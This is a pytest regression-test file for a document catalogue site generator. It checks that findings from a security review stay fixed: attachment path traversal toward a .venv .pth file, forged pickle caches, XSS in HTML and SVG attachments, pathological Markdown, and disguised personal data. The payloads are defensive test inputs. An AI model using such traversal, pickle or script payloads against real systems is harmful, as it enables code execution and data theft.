"""Regression tests for the findings of the hostile review (docs/security.md): each test
is named after the finding it closes, and fails on the code the review attacked."""

from __future__ import annotations

import csv
import datetime as dt
import hashlib
import hmac
import http.client
import importlib.metadata
import io
import json
import os
import pickle
import re
import resource
import signal
import stat
import subprocess
import sys
import zipfile
from html import unescape
from pathlib import Path
from urllib.parse import unquote, urljoin, urlsplit

import pytest
import yaml
from click.testing import CliRunner
from conftest import BUILD_DAY, ORG, REPO, Repo, copy_sample, line_of
from officefiles import write_pdf
from sitetext import files_of

from generator.build import BuildContext, BuildRefused, build_catalogue
from generator.catalogue import load_catalogue
from generator.cli import main
from generator.incremental import sources
from generator.incremental.fingerprint import input_fingerprint
from generator.incremental.itemcache import CACHE_FILE, file_stamps
from generator.incremental.lastbuild import remembered_file
from generator.incremental.pagecache import build_digest
from generator.incremental.postingcache import CACHE_FILE as POSTINGS_FILE
from generator.incremental.sealed import MAC_SIZE, MAGIC, tracked_by_git, write_sealed
from generator.incremental.termcache import CACHE_FILE as TERMS_FILE
from generator.incremental.update import Reuse
from generator.output.files import IN_PROGRESS_FILE
from generator.output.writer import UnsafeOutputPath, output_path, remove_stale_folders
from generator.source.guard import path_fault
from generator.source.items import content_files

# An item hidden in a folder named like the repository's virtual environment: its
# attachment climbs out of the item's folder and back in, so the file it names lies
# beside the item, but the path, joined to the output's items/<id>/ folder, leads to
# the repository's real .venv, whose .pth files Python runs at every start.
VENV_ITEM = "content/external/budget/.venv/lib/python3.11/site-packages/2026-notes.md"
CLIMB_BACK_IN = "../../../../.venv/lib/python3.11/site-packages/evil.pth"
RULE = "content/external/rules/2026-budget-performance.md"
REL = "content/external/budget/2024-q2.md"


def _planted(repo: Repo, item: str, attachment: str, payload: str) -> Path:
    """An item whose attachment path is ``attachment``; the file it names holds ``payload``."""
    path = repo.root / item
    target = (path.parent / attachment).resolve()
    target.parent.mkdir(parents=True, exist_ok=True)
    target.write_text(payload, encoding="utf-8")
    written = repo.write_item(item, attachments=[{"path": attachment, "title": "附表"}])
    for step, by in (("initial", "钱立新"), ("leader", "林志远")):
        repo.force_approve(written, step, by)  # as a clerk with commit rights could
    return written


@pytest.mark.parametrize(
    ("item", "attachment"),
    [
        (VENV_ITEM, CLIMB_BACK_IN),
        # From a deep folder, back into that folder under another name.
        ("content/external/budget/a/b/2026-table.md", "../../a/b/files/table.csv"),
    ],
)
def test_attachment_paths_cannot_write_outside_build(
    repo: Repo, tmp_path: Path, item: str, attachment: str
) -> None:
    path = _planted(repo, item, attachment, "import os  # would run at every Python start\n")
    before = {p for p in repo.root.rglob("*")}
    result = CliRunner().invoke(main, ["--root", str(repo.root), "validate"])
    assert result.exit_code == 1
    assert f"{item}:{line_of(path, 'attachments:')}: L402" in result.output
    with pytest.raises(BuildRefused):
        build_catalogue(BuildContext(repo.root, repo.root / "build", BUILD_DAY))
    assert {p for p in repo.root.rglob("*")} == before  # nothing written, anywhere
    assert not (repo.root / ".venv").exists()


def test_output_paths_are_plain_relative_paths_inside_the_output(tmp_path: Path) -> None:
    """Whatever validation misses, no output file is written outside its output."""
    for unsafe in [
        "../evil.pth",
        "items/2026-00001/../../../evil.pth",
        "/etc/passwd",
        "items\\..\\evil",
        "C:evil",
        "items//a.html",
        "items/./a.html",
        "items/a\x00.html",
        "",
    ]:
        assert path_fault(unsafe) is not None, unsafe
        with pytest.raises(UnsafeOutputPath):
            output_path(tmp_path, unsafe)
    assert output_path(tmp_path, "items/2026-00001/files/表 1.pdf") == (
        tmp_path / "items" / "2026-00001" / "files" / "表 1.pdf"
    )


class _Payload:
    """A pickle that runs code when loaded: it makes the folder ``marker``."""

    def __init__(self, marker: Path) -> None:
        self.marker = marker

    def __reduce__(self) -> tuple[object, tuple[str]]:
        return (os.mkdir, (str(self.marker),))


def _git(root: Path, *args: str) -> None:
    subprocess.run(["git", *args], cwd=root, check=True, capture_output=True)


def test_caches_never_run_code_that_this_users_builds_did_not_write(tmp_path: Path) -> None:
    """The item cache, the last build's record, the index terms and postings are pickles: one
    that somebody else wrote (committed with ``git add -f``, or from a shared artifact)
    ran code on the next build. Only files sealed with this user's key are unpickled, never one that
    git tracks, and nothing a build keeps for the next lies in the output."""
    root = copy_sample(tmp_path / "s")
    out = root / "build"
    runner = CliRunner()
    assert (
        runner.invoke(main, ["--root", str(root), "build", "--today", "2026-11-26"]).exit_code == 0
    )
    assert not [p for p in out.rglob("*") if p.suffix == ".pickle"]
    cache, record = root / CACHE_FILE, remembered_file(root, out)
    terms, postings = root / TERMS_FILE, root / POSTINGS_FILE
    kept = (cache, record, terms, postings)
    assert all(path.is_file() for path in kept)  # beside the content
    marker = tmp_path / "code-ran"
    payload = pickle.dumps(_Payload(marker))
    forged = [
        payload,  # a bare pickle, as before caches were sealed
        MAGIC + bytes(MAC_SIZE) + payload,  # a seal made without the key
        MAGIC + hmac.new(b"k" * 32, payload, hashlib.sha256).digest() + payload,  # wrong key
    ]
    for bad in forged:
        for path in kept:
            path.write_bytes(bad)
        (root / RULE).write_text((root / RULE).read_text(encoding="utf-8") + "\n", encoding="utf-8")
        result = runner.invoke(main, ["--root", str(root), "build", "--today", "2026-11-26"])
        assert result.exit_code == 0, result.output
        assert not marker.exists()
    # A file sealed by this very user, but committed: never read either.
    write_sealed(cache, [_Payload(marker)])
    _git(root, "init", "-q")
    _git(root, "add", "-f", str(cache.relative_to(root)))
    _git(root, "-c", "user.name=t", "-c", "user.email=t@example.org", "commit", "-qm", "cache")
    assert tracked_by_git(cache)
    (root / RULE).write_text((root / RULE).read_text(encoding="utf-8") + "\n", encoding="utf-8")
    assert (
        runner.invoke(main, ["--root", str(root), "build", "--today", "2026-11-26"]).exit_code == 0
    )
    assert not marker.exists()


def test_the_preview_artifact_holds_only_what_the_public_sees() -> None:
    workflow = REPO / ".github" / "workflows" / "pull-request.yml"
    steps = yaml.safe_load(workflow.read_text(encoding="utf-8"))["jobs"]["check"]["steps"]
    (upload,) = [s for s in steps if str(s.get("uses", "")).startswith("actions/upload-artifact")]
    assert upload["with"]["path"].split() == ["build/public/", "build/kiosk/"]


FUNDS = "content/external/funds/2025-farmland-subsidy.md"  # public, with a CSV attachment
SUCCESSOR = "content/external/rules/2024-special-funds.md"  # named by the item it replaced


def _withdraw(root: Path, item: str) -> None:
    args = ["--root", str(root), "withdraw", str(root / item), "--by", "林志远"]
    result = CliRunner().invoke(main, [*args, "--reason", "误公开个人信息", "--date", "2026-11-26"])
    assert result.exit_code == 0, result.output


def _public_bytes(out: Path) -> bytes:
    files = {**files_of(out / "public"), **files_of(out / "kiosk")}
    return b"\n".join(files.values())


@pytest.mark.parametrize("item", [FUNDS, SUCCESSOR])
def test_a_withdrawn_item_leaves_no_byte_in_public_or_kiosk(tmp_path: Path, item: str) -> None:
    """Emergency takedown: after ``catalogue withdraw`` no byte of the item (title,
    body, attachment, summary) remains in the public site or the kiosk, their search
    indexes, feed, sitemap or exports, after an incremental build as after a clean
    one; its old address answers with a neutral page; the intranet keeps it, marked."""
    root = copy_sample(tmp_path / "s")
    out = root / "build"
    text = (root / item).read_text(encoding="utf-8")
    title = next(line for line in text.splitlines() if line.startswith("title: "))[7:]
    body = re.findall(r"[\u4e00-\u9fff]{12,}", text.split("\n---\n", 1)[1])[0]
    # The successor's title stays where other items' own text quotes it; what must go
    # is every link to it and what only the item itself says.
    secrets = [title, body] if item == FUNDS else [body, "2024-00012.html"]
    if item == FUNDS:
        secrets.append(
            (root / "content/external/funds/files/2025-farmland-subsidy.csv")
            .read_text(encoding="utf-8")
            .splitlines()[1]
        )
    build_catalogue(BuildContext(root, out, BUILD_DAY), Reuse())
    assert all(s.encode() in _public_bytes(out) for s in secrets)  # the test sees them
    _withdraw(root, item)
    assert load_catalogue(root).problems == load_catalogue(copy_sample(tmp_path / "c")).problems
    result = build_catalogue(BuildContext(root, out, BUILD_DAY), Reuse())
    assert result.updated  # incremental
    build_catalogue(BuildContext(root, tmp_path / "clean", BUILD_DAY))
    for built in (out, tmp_path / "clean"):
        published = _public_bytes(built)
        for secret in secrets:
            assert secret.encode() not in published, (built, secret)
        index_no = next(line for line in text.splitlines() if line.startswith("index_no:"))
        url = f"items/{index_no.rsplit('/', 1)[1]}.html"
        for output in ("public", "kiosk"):
            gone = (built / output / url).read_text(encoding="utf-8")
            assert "信息已撤回" in gone and 'content="noindex"' in gone
        assert url not in (built / "public/sitemap.xml").read_text(encoding="utf-8")
        intranet = (built / "intranet" / url).read_text(encoding="utf-8")
        assert title in intranet and "已撤回" in intranet
        assert "误公开个人信息" in (built / "intranet/register.html").read_text(encoding="utf-8")
    assert files_of(out, top=False) == files_of(tmp_path / "clean", top=False)


# ---------------------------------------------------------------- finding 3: scanner evasion

ID_NUMBER = "110101199003074514"  # valid check digit; belongs to no one
MOBILE = "13812345678"


def _p_problems(repo: Repo, path: Path) -> list[tuple[str, int, str]]:
    rel = path.relative_to(repo.root).as_posix()
    return [(p.code, p.line, p.message) for p in repo.load().problems if p.path == rel]


@pytest.mark.parametrize(
    ("line", "code", "masked"),
    [
        # What the page shows, not what the source says.
        ("身份证号 &#49;10101199003074514。", "P701", "110101********4514"),
        ("身份证号 &#x31;&#x31;0101199003074514。", "P701", "110101********4514"),
        ("身份证号 110101199**003074514**。", "P701", "110101********4514"),
        ("身份证号 110101199<b>003</b>074514。", "P701", "110101********4514"),
        ("身份证号 1101011990\u200b03074514。", "P701", "110101********4514"),
        ("身份证号 1101011990\u00ad03074514。", "P701", "110101********4514"),
        ("身份证号 110101\\-19900307\\-4514。", "P701", "110101********4514"),
        # Forms the check did not know.
        ("身份证号 110101900307451。", "P701", "110101*****7451"),
        ("身份证号 110101 19900307 4514。", "P701", "110101********4514"),
        ("身份证号 110101-19900307-4514。", "P701", "110101********4514"),
        ("手机 138.1234.5678。", "P702", "138****5678"),
        ("手机 (138)1234-5678。", "P702", "138****5678"),
        ("手机 （138）1234-5678。", "P702", "138****5678"),
        ("手机 138 1234-5678。", "P702", "138****5678"),
        ("机 密★一年", "P704", "机 密★一年"),
        ("秘密*五年", "P704", "秘密*五年"),
        ("★秘密", "P704", "★秘密"),
        ("機密★", "P704", "機密★"),
    ],
)
def test_confidentiality_check_reads_what_readers_see(
    repo: Repo, line: str, code: str, masked: str
) -> None:
    path = repo.add_item(body=f"## 名单\n\n张三\n\n{line}\n\n以上。\n")
    found = [(c, n, m) for c, n, m in _p_problems(repo, path) if c.startswith("P70")]
    assert [(c, n) for c, n, _ in found] == [(code, line_of(path, line[:4]))], found
    assert masked in found[0][2] and ID_NUMBER not in found[0][2]


def test_confidentiality_check_reads_hidden_parts_of_attachments(repo: Repo) -> None:
    import openpyxl
    from officefiles import save_workbook, write_docx
    from openpyxl.comments import Comment

    folder = repo.root / "content/external/budget/files"
    folder.mkdir(parents=True)
    (folder / "unicode.txt").write_bytes(f"姓名\t电话\n张三\t{MOBILE}\n".encode("utf-16"))
    (folder / "nobom.csv").write_bytes(f"姓名,身份证\n张三,{ID_NUMBER}\n".encode("utf-16-le"))
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    sheet.title = "表1"
    sheet["A1"] = "预算表"
    sheet["A1"].comment = Comment(f"经办人手机 {MOBILE}", "x")
    sheet.oddFooter.center.text = "机密★一年"
    sheet["B2"] = '="1101011990"&"03074514"'  # a formula without a cached value
    sheet["C3"] = int(MOBILE)
    sheet["C3"].number_format = "00000000000"
    sheet["C4"] = 13912345678
    sheet["C4"].number_format = "#"
    workbook.create_sheet("张三13712345678")
    save_workbook(folder / "t.xlsx", workbook)
    write_docx(
        folder / "n.docx",
        ["通知"],
        parts={
            "word/footnotes.xml": [f"注：经办人 {MOBILE}"],
            "word/endnotes.xml": [f"身份证 {ID_NUMBER}"],
            "word/comments.xml": ["秘密★五年"],
            "docProps/core.xml": ["联系人 13612345678"],
        },
    )
    path = repo.add_item(
        attachments=[
            {"path": f"files/{name}", "title": "附件"}
            for name in ("unicode.txt", "nobom.csv", "t.xlsx", "n.docx")
        ]
    )
    messages = [m for c, _, m in _p_problems(repo, path) if c.startswith("P70")]
    for where, masked in [
        ("files/unicode.txt”第 2 行", "138****5678"),
        ("files/nobom.csv”第 2 行", "110101********4514"),
        ("files/t.xlsx”表1!A1批注", "138****5678"),
        ("files/t.xlsx”表1页眉页脚", "机密★一年"),
        ("files/t.xlsx”表1!B2（公式）", "110101********4514"),
        ("files/t.xlsx”表1!C3", "138****5678"),
        ("files/t.xlsx”表1!C4", "139****5678"),
        ("files/t.xlsx”工作表名称", "137****5678"),
        ("files/n.docx”脚注", "138****5678"),
        ("files/n.docx”尾注", "110101********4514"),
        ("files/n.docx”批注", "秘密★五年"),
        ("files/n.docx”文档属性", "136****5678"),
    ]:
        assert any(where in m and masked in m for m in messages), (where, messages)


def test_confidentiality_check_reads_pdf_metadata_and_annotations(repo: Repo) -> None:
    from pypdf import PdfWriter
    from pypdf.annotations import Text

    folder = repo.root / "content/external/budget/files"
    folder.mkdir(parents=True)
    writer = PdfWriter()
    writer.add_blank_page(612, 792)
    writer.add_metadata({"/Author": f"张三 {MOBILE}"})
    writer.add_annotation(0, Text(rect=(50, 50, 100, 100), text=f"身份证 {ID_NUMBER}"))
    with (folder / "r.pdf").open("wb") as out:
        writer.write(out)
    path = repo.add_item(attachments=[{"path": "files/r.pdf", "title": "报告"}])
    messages = [m for c, _, m in _p_problems(repo, path) if c.startswith("P70")]
    assert any("文档属性" in m and "138****5678" in m for m in messages), messages
    assert any("第 1 页批注" in m and "110101********4514" in m for m in messages), messages


@pytest.mark.parametrize("suffix", [".tsv", ".json", ".zip", ".ofd", ".et"])
def test_unknown_attachment_types_are_errors_unless_allowed(repo: Repo, suffix: str) -> None:
    folder = repo.root / "content/external/budget/files"
    folder.mkdir(parents=True)
    name = f"data{suffix}"
    if suffix == ".zip":
        with zipfile.ZipFile(folder / name, "w") as archive:
            archive.writestr("名单/a.csv", f"张三,{MOBILE}\n")
    else:
        (folder / name).write_text("说明\n", encoding="utf-8")
    path = repo.add_item(attachments=[{"path": f"files/{name}", "title": "数据"}])
    assert [c for c, _, _ in _p_problems(repo, path) if c.startswith("P7")] == ["P709"]
    assert CliRunner().invoke(main, ["--root", str(repo.root), "validate"]).exit_code == 1
    catalog = repo.root / "catalog.yaml"
    text = catalog.read_text(encoding="utf-8")
    catalog.write_text(
        text.replace("  allow:", f"  allowed_types: [{suffix}]\n  allow:", 1),
        encoding="utf-8",
    )
    found = [(c, m) for c, _, m in _p_problems(repo, path) if c.startswith("P7")]
    if suffix == ".zip":  # allowed, and its members are scanned
        assert [c for c, _ in found] == ["P702"]
        assert "files/data.zip”内的“名单/a.csv”第 1 行" in found[0][1]
    elif suffix in (".tsv", ".json"):
        assert found == []  # read as text
    else:
        assert [c for c, _ in found] == ["P707"]  # allowed, checked by hand


# ---------------------------------------------------------------- finding 5: active attachments


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("report.html", "<script>alert(document.cookie)</script>"),
        ("report.HTM", "<p>x</p>"),
        ("page.xhtml", "<html xmlns='http://www.w3.org/1999/xhtml'><script>1</script></html>"),
        ("chart.svg", "<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>"),
        ("app.js", "alert(1)"),
        ("data.xml", "<?xml-stylesheet type='text/xsl' href='x.xsl'?><a/>"),
        ("data.xml", "<a xmlns:h='http://www.w3.org/1999/xhtml'><h:script>1</h:script></a>"),
    ],
)
def test_html_and_svg_attachments_are_refused(repo: Repo, name: str, content: str) -> None:
    folder = repo.root / "content/external/budget/files"
    folder.mkdir(parents=True)
    (folder / name).write_text(content, encoding="utf-8")
    catalog = repo.root / "catalog.yaml"
    text = catalog.read_text(encoding="utf-8")  # allowing a type does not make it safe
    catalog.write_text(
        text.replace("  allow:", "  allowed_types: [html, svg, js, xml]\n  allow:", 1),
        encoding="utf-8",
    )
    path = repo.add_item(attachments=[{"path": f"files/{name}", "title": "附件"}])
    found = [(c, n, m) for c, n, m in _p_problems(repo, path) if c.startswith("P7")]
    assert [(c, n) for c, n, _ in found] == [("P710", line_of(path, "attachments:"))]
    assert "请改附 PDF" in found[0][2]


# ---------------------------------------------------------------- finding 7
# Pathological bodies: each must finish validate and build within a generous CPU-time
# bound (CPU, not wall time: a busy machine does not make the work longer), end with a
# coded result and never a traceback. 160 KB of one construct is what a 5 MB item could
# hold thirty times over; on the code the review attacked the first three took minutes.
LONG = 40_000
DEEP = 300
PATHOLOGICAL = {
    "classified-marking-then-underscores": "密级：" + "_" * LONG + "\n",
    "marking-then-spaces": "密级" + " " * LONG + "\n",
    "unclosed-inline-links": "[a](" * LONG + "\n",
    "unclosed-link-titles": '[a](x "' * (LONG // 2) + "\n",
    "unclosed-images": "![" * LONG + "\n",
    "unclosed-reference-labels": "[a\n" * (LONG // 4),
    "run-of-underscores": "_" * (4 * LONG) + "\n",
    "run-of-asterisks": "*" * (4 * LONG) + "\n",
    "run-of-backticks": "`" * (4 * LONG) + "\n",
    "run-of-angle-brackets": "<" * (4 * LONG) + "\n",
    "run-of-pipes": "|" * (4 * LONG) + "\n",
    "run-of-ampersands": "&#" * (2 * LONG) + "\n",
    "unclosed-emphasis": "**a " * LONG + "\n",
    "unclosed-code-spans": "`a " * LONG + "\n",
    "unclosed-html": "<div>" * (LONG // 2) + "\n",
    "unclosed-raw-text": "<style>a" * (LONG // 2) + "\n</style>\n",
    "unclosed-comments": "<!-- a\n" * (LONG // 4),
    "nested-lists": "".join("    " * i + "- 第一项\n" for i in range(DEEP)),
    "nested-numbered-lists": "".join("    " * i + "1. 第一项\n" for i in range(DEEP)),
    "nested-blockquotes": "> " * DEEP + "引文\n",
    "nested-emphasis": "*" * DEEP + "强调" + "*" * DEEP + "\n",
    "nested-links": "[" * DEEP + "a" + "](x)" * DEEP + "\n",
    "nested-brackets": "(" * DEEP + "a" + ")" * DEEP + "\n",
    "nested-html": '<div markdown="1">\n' * DEEP + "a\n" + "</div>\n" * DEEP,
}
CPU_BOUND = 30.0  # seconds for validate and build together; each takes well under 5


def _cpu_seconds() -> float:
    own, children = (
        resource.getrusage(w) for w in (resource.RUSAGE_SELF, resource.RUSAGE_CHILDREN)
    )
    return own.ru_utime + own.ru_stime + children.ru_utime + children.ru_stime


def _approved_item(repo: Repo, body: str) -> Path:
    path = repo.write_item(body=body)
    for step, by in (("initial", "钱立新"), ("leader", "林志远")):
        repo.force_approve(path, step, by)
    return path


@pytest.mark.parametrize("body", PATHOLOGICAL.values(), ids=PATHOLOGICAL.keys())
def test_validation_hangs_or_crashes_on_pathological_input(repo: Repo, body: str) -> None:
    _approved_item(repo, body)
    runner = CliRunner()
    started = _cpu_seconds()
    checked = runner.invoke(
        main, ["--root", str(repo.root), "validate"], env={"GITHUB_ACTIONS": ""}
    )
    built = runner.invoke(
        main, ["--root", str(repo.root), "build", "--today", BUILD_DAY.isoformat()]
    )
    assert _cpu_seconds() - started < CPU_BOUND, "pathological input must not stall a run"
    for result in (checked, built):
        assert result.exit_code in (0, 1), result.output
        assert "X001" not in result.output and "Traceback" not in result.output
    assert built.exit_code == checked.exit_code  # validate lets through only what builds


@pytest.mark.parametrize(
    ("body", "code", "needle"),
    [
        (PATHOLOGICAL["nested-lists"], "F009", "    " * 32 + "- "),
        (PATHOLOGICAL["nested-blockquotes"], "F009", "> " * DEEP),
        (PATHOLOGICAL["unclosed-inline-links"], "F010", "[a]("),
        (PATHOLOGICAL["nested-links"], "F010", "[" * DEEP),
    ],
    ids=["lists", "blockquotes", "unclosed-links", "nested-links"],
)
def test_validation_hangs_or_crashes_on_pathological_input_names_the_line(
    repo: Repo, body: str, code: str, needle: str
) -> None:
    """Deep nesting, which ended the build with X001 RecursionError and no line, and
    brackets left open, which Markdown searches the paragraph for, one by one, are
    errors at the line where the body crosses the limit."""
    path = _approved_item(repo, body)
    result = CliRunner().invoke(main, ["--root", str(repo.root), "validate"])
    assert result.exit_code == 1
    assert f"2024-q2.md:{line_of(path, needle)}: {code}" in result.output
    with pytest.raises(BuildRefused):
        build_catalogue(BuildContext(repo.root, repo.root / "build", BUILD_DAY))


HIDDEN = [
    "<!-- 隐藏注释鸮鹮 -->",
    "<template>模板隐藏鼯鼷</template>",
    '[r]: ../../internal/personnel/staff-secret-2026.md "引用标题鳑鲏"',
]
HIDDEN_WORDS = ["隐藏注释鸮鹮", "模板隐藏鼯鼷", "staff-secret-2026", "引用标题鳑鲏"]


def test_hidden_markdown_never_reaches_search_summaries_or_exports(repo: Repo) -> None:
    """A comment, a <template> and a reference definition are not on the page, so no
    text derived from the page (search indexes, the kiosk's index, summaries, feed,
    JSON, CSV) may carry them: every derived text is made from the rendered page."""
    internal = "content/internal/personnel/staff-secret-2026.md"  # the definition's target
    repo.add_item(internal, category="personnel", index_no=f"{ORG}/2024-00013")
    body = "## 说明\n\n本条目正文可见部分。\n\n" + "\n\n".join(HIDDEN) + "\n"
    repo.add_item(summary=None, body=body)
    out = repo.root / "build"
    build_catalogue(BuildContext(repo.root, out, BUILD_DAY))
    published = _public_bytes(out)
    assert "本条目正文可见部分".encode() in published  # derived texts were looked at
    for word in HIDDEN_WORDS:
        assert word.encode() not in published, word
    assert "本条目正文可见部分".encode() in (out / "public/catalogue.json").read_bytes()


# Finding 6: an interrupted incremental build. A child process runs the real
# `catalogue build` and, at a chosen point, tells the test through a pipe and waits
# for a signal; the test then kills it for real. The points are where an update has
# moved some of its files into build/ and not yet recorded them.
EDITED = "content/external/rules/2026-budget-performance.md"  # public 2026-00016
AFTER_ITEM_PAGES = "修改的条目页面已写入"  # Update's first step, moved in
AFTER_LISTINGS = "显示修改条目的列表页已写入"  # its second
DURING_INDEXING = "indexing"  # the last step's search indexes begun, nothing moved in yet
STOPPED_BUILD = """
import os, sys, time
from generator.build.context import BuildContext
from generator.cli import main
from generator.search.index import IndexWriter

point, report = sys.argv[1], int(sys.argv[2])

def stop_here():
    os.write(report, b"reached")  # the test kills or signals this process now
    while True:  # not signal.pause(): a signal come just before it would leave it waiting
        time.sleep(0.1)

if point == "indexing":
    IndexWriter.write = lambda self, site, files: stop_here()
else:
    stage_done = BuildContext.stage_done
    def stage_done_then_stop(self, text):
        stage_done(self, text)
        if text.startswith(point):
            stop_here()
    BuildContext.stage_done = stage_done_then_stop
main(sys.argv[3:])
"""


def _cli_build(root: Path, *args: str) -> str:
    result = CliRunner().invoke(
        main, ["--root", str(root), "build", "--today", BUILD_DAY.isoformat(), *args]
    )
    assert result.exit_code == 0, result.output
    return result.output


def _stopped_build(root: Path, point: str) -> subprocess.Popen[bytes]:
    """`catalogue build` in a child process of its own group, stopped at ``point``."""
    read, write = os.pipe()
    args = ["--root", str(root), "build", "--today", BUILD_DAY.isoformat()]
    child = subprocess.Popen(
        [sys.executable, "-c", STOPPED_BUILD, point, str(write), *args],
        pass_fds=[write],
        start_new_session=True,
        stdout=subprocess.DEVNULL,
        stderr=subprocess.PIPE,
    )
    os.close(write)
    with os.fdopen(read, "rb") as pipe:
        reached = pipe.read(7)  # blocks until the child reports, or ends without reaching it
    if reached != b"reached":
        _, err = child.communicate()
        raise AssertionError(f"the build never reached {point!r}: {err.decode()}")
    return child


def _edit_and_approve(root: Path) -> str:
    path = root / EDITED
    original = path.read_text(encoding="utf-8")
    path.write_text(original.replace("title: ", "title: 修订：", 1), encoding="utf-8")
    Repo(root, fresh=False).approve(
        path, steps=(("initial", "钱立新"), ("leader", "林志远")), date=dt.date(2026, 5, 12)
    )
    return original


def _staging_folders(root: Path) -> list[str]:
    return sorted(p.name for p in root.iterdir() if p.name.startswith(".build-"))


def test_an_interrupted_incremental_build_leaves_no_wrong_output(tmp_path: Path) -> None:
    """``kill -9`` of `catalogue build` at several points of an edit's update, then the
    edit undone: the next build makes the bytes of a build without any cache."""
    root = copy_sample(tmp_path / "s")
    _cli_build(root)
    _cli_build(root, "--no-cache", "--out", str(tmp_path / "fresh"))
    fresh = files_of(tmp_path / "fresh", top=False)
    for point in (AFTER_ITEM_PAGES, AFTER_LISTINGS, DURING_INDEXING):
        original = _edit_and_approve(root)
        child = _stopped_build(root, point)
        os.killpg(child.pid, signal.SIGKILL)
        assert child.wait() == -signal.SIGKILL
        assert _staging_folders(root)  # what it was writing, left where it was
        if point != DURING_INDEXING:
            page = (root / "build/public/items/2026-00016.html").read_text(encoding="utf-8")
            assert "修订：" in page  # the killed build had changed build/ already
        (root / EDITED).write_text(original, encoding="utf-8")
        _cli_build(root)
        assert files_of(root / "build", top=False) == fresh, point
        assert _staging_folders(root) == [], point  # removed by the next build
    assert (root / "build" / IN_PROGRESS_FILE).exists() is False


@pytest.mark.parametrize(
    ("signum", "point"),
    [(signal.SIGTERM, AFTER_ITEM_PAGES), (signal.SIGHUP, DURING_INDEXING)],
    ids=["SIGTERM", "SIGHUP"],
)
def test_sigterm_and_sighup_stop_a_build_as_ctrl_c_does(
    tmp_path: Path, signum: int, point: str
) -> None:
    """A cancelled CI job or a closed terminal: the update is undone as on Ctrl+C, so
    build/ is the previous build, records included, and nothing is left beside it."""
    root = copy_sample(tmp_path / "s")
    _cli_build(root)
    before = files_of(root / "build")
    _edit_and_approve(root)
    child = _stopped_build(root, point)
    os.kill(child.pid, signum)  # the build process only, as `kill -TERM PID` does
    _, err = child.communicate()
    assert child.returncode == 1, err.decode()  # as click ends a command on Ctrl+C
    assert files_of(root / "build") == before
    assert _staging_folders(root) == []
    _cli_build(root)
    assert "修订：" in (root / "build/public/items/2026-00016.html").read_text(encoding="utf-8")


def test_stale_staging_folders_are_removed_by_the_next_build(tmp_path: Path) -> None:
    """Folders of killed builds go, in this version's names and in earlier ones'; those of
    a build still running (here: this process) stay."""
    out = tmp_path / "build"
    out.mkdir()
    dead = subprocess.run(
        [sys.executable, "-c", "import os; print(os.getpid())"],
        check=True,
        capture_output=True,
        text=True,
    ).stdout.strip()
    stale = [
        f".build-step-{dead}-0123abcd",
        f".build-previous-{dead}-89ef4567",
        ".build-k2j_x9aa",
        ".build-previous-q1w2e3r4",
        ".build-retired-4242",
    ]
    running = f".build-stage-{os.getpid()}-0123abcd"
    for name in [*stale, running, ".build-notes"]:
        (tmp_path / name).mkdir()
        (tmp_path / name / "page.html").write_text("x", encoding="utf-8")
    assert sorted(p.name for p in remove_stale_folders(out)) == sorted(stale)
    assert sorted(p.name for p in tmp_path.iterdir()) == sorted([".build-notes", "build", running])


# Finding 8: the smaller ones.
@pytest.mark.parametrize("umask", [0o022, 0o027])
def test_build_folders_get_the_mode_the_umask_allows(tmp_path: Path, umask: int) -> None:
    """tempfile.mkdtemp made build/ 0700 whatever the umask: a web server running as
    another user got 403 for every page."""
    root = copy_sample(tmp_path / "s")
    previous = os.umask(umask)
    try:
        _cli_build(root)  # afresh: the staging folder becomes build/
        _edit_and_approve(root)
        _cli_build(root)  # an update: folders moved in from its steps
    finally:
        os.umask(previous)
    out = root / "build"
    folders = [out, *(p for p in out.rglob("*") if p.is_dir())]
    assert {oct(stat.S_IMODE(p.stat().st_mode)) for p in folders} == {oct(0o777 & ~umask)}
    assert {oct(stat.S_IMODE(p.stat().st_mode)) for p in out.rglob("*") if p.is_file()} == {
        oct(0o666 & ~umask)
    }


def test_moving_an_item_from_external_to_internal_leaves_no_empty_folders(
    tmp_path: Path,
) -> None:
    """Its items/<id>/files/ folders in public and kiosk went with their files."""
    root = copy_sample(tmp_path / "s")
    context = BuildContext(root, root / "build", BUILD_DAY, preview=True)
    build_catalogue(context, Reuse())
    source = root / "content/external/funds/2025-farmland-subsidy.md"
    target = root / "content/internal/staff-affairs/2025-farmland-subsidy.md"
    (target.parent / "files").mkdir(parents=True, exist_ok=True)
    os.replace(
        source.parent / "files/2025-farmland-subsidy.csv",
        target.parent / "files/2025-farmland-subsidy.csv",
    )
    text = source.read_text(encoding="utf-8").replace("category: funds", "category: staff-affairs")
    target.write_text(text.replace("owner: agriculture", "owner: personnel"), encoding="utf-8")
    source.unlink()
    assert (root / "build/public/items/2025-00022/files").is_dir()
    result = build_catalogue(BuildContext(root, root / "build", BUILD_DAY, preview=True), Reuse())
    assert result.updated
    fresh = tmp_path / "fresh"
    build_catalogue(BuildContext(root, fresh, BUILD_DAY, preview=True), Reuse(reuse_output=False))

    def folders(out: Path) -> set[str]:
        return {p.relative_to(out).as_posix() for p in out.rglob("*") if p.is_dir()}

    assert not (root / "build/public/items/2025-00022").exists()
    assert not (root / "build/kiosk/items/2025-00022").exists()
    assert folders(root / "build") == folders(fresh)
    assert files_of(root / "build", top=False) == files_of(fresh, top=False)


def test_cache_keys_and_the_build_fingerprint_follow_library_versions(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A new Markdown (or any library that shapes output) must not be taken for the one
    an output or the item cache was made with; the lock file pins them all."""
    root = copy_sample(tmp_path / "s")
    theme = root / "themes/default"
    stamps = file_stamps(content_files(root))

    def keys() -> tuple[str, str, str | None]:
        sources.library_versions.cache_clear()
        return (
            build_digest(root, theme, BUILD_DAY, "build"),
            sources.generator_digest(),  # the item cache's version
            input_fingerprint(root, BUILD_DAY, "build", stamps, 2**62),
        )

    installed = keys()
    real_version = importlib.metadata.version
    for library in sources.SHAPING_LIBRARIES:
        with monkeypatch.context() as patch:
            patch.setattr(
                importlib.metadata,
                "version",
                lambda name, lib=library: "99.0" if name == lib else real_version(name),
            )
            changed = keys()
        assert all(a != b for a, b in zip(installed, changed, strict=True)), library
    with monkeypatch.context() as patch:
        patch.setattr(sys, "version", sys.version + " (another build)")
        assert all(a != b for a, b in zip(installed, keys(), strict=True))
    assert keys() == installed
    lock = (REPO / "requirements.lock").read_text(encoding="utf-8")
    pinned = {
        re.sub(r"[-_.]+", "-", line.split("==")[0]).lower()
        for line in lock.splitlines()
        if "==" in line
    }
